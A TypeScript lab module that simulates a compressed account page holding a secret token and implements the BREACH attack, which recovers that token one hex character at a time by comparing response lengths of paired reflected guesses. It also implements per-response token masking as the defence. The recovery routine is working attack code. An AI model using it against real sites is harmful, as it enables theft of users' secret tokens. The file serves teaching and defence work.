// BREACH in the caching-and-compression lab: an account page that holds a secret token and reflects
// the visitor's search on the same page, compressed by the proxy; and the attack that reads the
// token one character at a time from response lengths alone. For each candidate character c the
// attacker makes the page reflect `token=KNOWN c PAD` and `token=KNOWN PAD c`: both carry the same
// bytes, but when c is the token's next character the first one repeats a longer run of the page
// (DEFLATE codes it as one longer back-reference) and compresses shorter. Lengths are whole bytes,
// so one pair often ties; the attack sums the differences over several pad lengths (each shifts the
// bit position) and takes the candidate with the lowest sum. Masking the token per response (a
// fresh random mask, sent with the token XORed by it) leaves nothing to match.

import { randomBytes } from 'node:crypto';

/** The token's alphabet. */
export const HEX = '0123456789abcdef';
/** What precedes the token on the page, which the attacker knows (it is on every user's page). */
export const TOKEN_PREFIX = 'token=';
/** Characters that appear nowhere else on the page: the padding between a guess and the rest. */
const PAD = '!%^*()[]{}|;:@$~#?+,`_';
const PAD_LENGTHS = [2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17];

const escapeHtml = (s: string): string => s.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;');

/** The token as the page shows it: plain, or masked (random mask, then token XOR mask, both hex). */
export function shownToken(secret: string, mask: boolean): string {
  if (!mask) return secret;
  const s = Buffer.from(secret, 'hex');
  const m = randomBytes(s.length);
  const x = Buffer.alloc(s.length);
  for (let i = 0; i < s.length; i++) x[i] = (s[i] as number) ^ (m[i] as number);
  return m.toString('hex') + x.toString('hex');
}

/** The account page: the secret token in a link, and the search echoed back (HTML-escaped, as it should be). */
export function accountPage(secret: string, search: string, mask: boolean): string {
  const rows = ['Orders', 'Addresses', 'Payment methods', 'Security', 'Messages', 'Newsletter']
    .map((s, i) => `      <li><a href="/account/${s.toLowerCase().replaceAll(' ', '-')}">${s}</a> (${i + 2} items)</li>\n`)
    .join('');
  return (
    '<!doctype html>\n<html lang="en">\n<head>\n  <meta charset="utf-8">\n  <title>Your account - netlab shop</title>\n</head>\n<body>\n' +
    '  <header>Signed in as alice. <a href="/logout?' +
    `${TOKEN_PREFIX}${shownToken(secret, mask)}">Sign out</a></header>\n` +
    `  <form action="/search"><input name="q"></form>\n  <p>You searched for: ${escapeHtml(search)}</p>\n  <p>No results.</p>\n` +
    `  <ul class="account">\n${rows}  </ul>\n  <footer>netlab shop, a lab page about BREACH</footer>\n</body>\n</html>\n`
  );
}

export interface Round {
  /** The characters found before this round. */
  readonly known: string;
  /** Each candidate's summed difference (guess then pad, minus pad then guess), lowest first. */
  readonly scores: readonly { readonly c: string; readonly score: number }[];
  /** True when the lowest score is the only one that low. */
  readonly clear: boolean;
}

export interface Recovery {
  readonly recovered: string;
  readonly rounds: readonly Round[];
  readonly requests: number;
}

/**
 * Reads `chars` characters of the token from response lengths. `length(search)` makes the victim's
 * browser fetch the page with that search and returns the length the attacker saw on the wire.
 */
export async function recoverToken(chars: number, length: (search: string) => Promise<number>): Promise<Recovery> {
  let known = '';
  let requests = 0;
  const rounds: Round[] = [];
  for (let i = 0; i < chars; i++) {
    const scores: { c: string; score: number }[] = [];
    for (const c of HEX) {
      let score = 0;
      for (const n of PAD_LENGTHS) {
        const pad = PAD.slice(0, n);
        score += (await length(`${TOKEN_PREFIX}${known}${c}${pad}`)) - (await length(`${TOKEN_PREFIX}${known}${pad}${c}`));
        requests += 2;
      }
      scores.push({ c, score });
    }
    scores.sort((a, b) => a.score - b.score);
    const [best, second] = scores as [{ c: string; score: number }, { c: string; score: number }];
    rounds.push({ known, scores, clear: best.score < second.score });
    known += best.c;
  }
  return { recovered: known, rounds, requests };
}
